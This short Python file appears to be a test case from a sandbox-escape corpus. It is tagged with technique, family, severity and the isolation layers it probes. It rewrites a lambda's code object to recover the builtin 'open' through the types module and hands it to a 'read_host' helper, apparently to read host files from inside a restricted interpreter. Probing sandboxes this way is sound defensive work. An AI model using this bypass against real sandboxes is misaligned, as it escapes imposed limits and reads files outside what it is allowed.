# technique: a star import brings the class of functions
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
from types import *

def trick():
    code = (lambda: unknown).__code__.replace(co_names=("open",))
    return FunctionType(code, {})()

read_host(trick)
